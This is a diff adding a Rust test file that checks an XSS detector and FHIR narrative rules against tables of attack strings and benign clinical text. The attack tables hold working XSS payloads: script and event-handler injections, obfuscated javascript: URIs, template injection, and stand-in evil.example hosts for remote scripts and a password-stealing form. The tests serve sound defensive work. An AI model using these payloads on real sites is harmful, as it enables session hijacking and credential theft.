@@ -1,0 +1,116 @@
+//! Attack and benign tables for the XSS detector and the FHIR narrative rules.
+
+use super::{Scope, detect, narrative};
+use crate::detect::Finding;
+
+fn score(value: &str, scope: Scope) -> u16 {
+    let mut f: Vec<Finding> = Vec::new();
+    detect(value, scope, &mut f);
+    f.iter().map(|f| f.score).max().unwrap_or(0)
+}
+
+fn narrative_score(value: &str) -> u16 {
+    let mut f: Vec<Finding> = Vec::new();
+    narrative(value, &mut f);
+    f.iter().map(|f| f.score).max().unwrap_or(0)
+}
+
+const MARKUP_ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></script>",
+    "<svg/onload=alert(1)>",
+    "<img src=x onerror=alert(document.domain)>",
+    "<body onload=alert('test1')>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<a href=\"&#32;javascript:alert(1)\">",
+    "<IMG SRC=j&#X41vascript:alert('test')>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+    "<embed src=\"http://evil.example/x.swf\">",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<form action=\"https://evil.example/steal\"><input name=pw></form>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"https://evil.example/\">",
+    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    "<div style=\"width: expression(alert(1));\">",
+    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
+    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+    "<details/open/ontoggle=\"alert(1)\">",
+    "<x onpointerrawupdate=confirm(1)>",
+    "<x onxxx=alert(1) 1='",
+];
+
+#[test]
+fn markup_that_executes_is_found_in_every_scope() {
+    for a in MARKUP_ATTACKS {
+        assert_eq!(score(a, Scope::Full), 5, "full: {a}");
+        assert_eq!(score(a, Scope::Markup), 5, "clinical: {a}");
+    }
+}
+
+#[test]
+fn script_outside_markup_is_found_in_request_values() {
+    for a in [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(document.cookie)",
+        "data:text/html,<form action=https://x>",
+        "\" onmouseover=\"alert(1)",
+        "\"onClick=\"(prompt)(1)",
+        "' autofocus onfocus=alert(1) x='",
+        "';alert(String.fromCharCode(88,83,83))//",
+        "\"-alert(1)-\"",
+        "{{constructor.constructor('alert(1)')()}}",
+        "</script><script>alert(1)</script>",
+        "alert.call(null,1)",
+    ] {
+        assert_eq!(score(a, Scope::Full), 5, "{a}");
+    }
+}
+
+#[test]
+fn clinical_text_with_comparisons_and_plain_markup_passes() {
+    for b in [
+        "hold if HR < 60 or SBP < 100",
+        "K+ <3.5 -> replace; >5.5 -> recheck",
+        "h2<h1",
+        "<b>Penicillin</b> allergy: rash",
+        "JavaScript: Basics of JavaScript Language",
+        "Please confirm (yes/no) with the patient",
+        "Onset=2 days ago",
+        "online=yes",
+        "<a href=\"/fhir/Patient/1\">John</a>",
+        "see <https://example.org/guideline>",
+        "1alert(1)",
+    ] {
+        assert_eq!(score(b, Scope::Full), 0, "full: {b}");
+        assert_eq!(score(b, Scope::Markup), 0, "clinical: {b}");
+    }
+}
+
+#[test]
+fn narrative_rules() {
+    let allowed = [
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p><b>Siobhán O&#39;Brien</b>, female</p><p>MRN &lt;pending merge&gt; -- see registration note</p></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><table class=\"grid\"><tr><td style=\"background-color: #f3f5da\" title=\"Record is active\">Active:</td></tr></table></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"chart\"/><a href=\"#ref1\">note</a></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\">hold if HR &lt; 60 or SBP &lt; 100</div>",
+    ];
+    for n in allowed {
+        assert_eq!(narrative_score(n), 0, "{n}");
+    }
+    let forbidden = [
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p onclick=\"x()\">a</p></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:alert(1)\">a</a></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"data:text/html,x\">a</a></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"https://x\"></iframe></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><object data=\"x\"></object></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><form><input/></form></div>",
+        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p style=\"x:expression(alert(1))\">a</p></div>",
+    ];
+    for n in forbidden {
+        assert_eq!(narrative_score(n), 5, "{n}");
+    }
+}
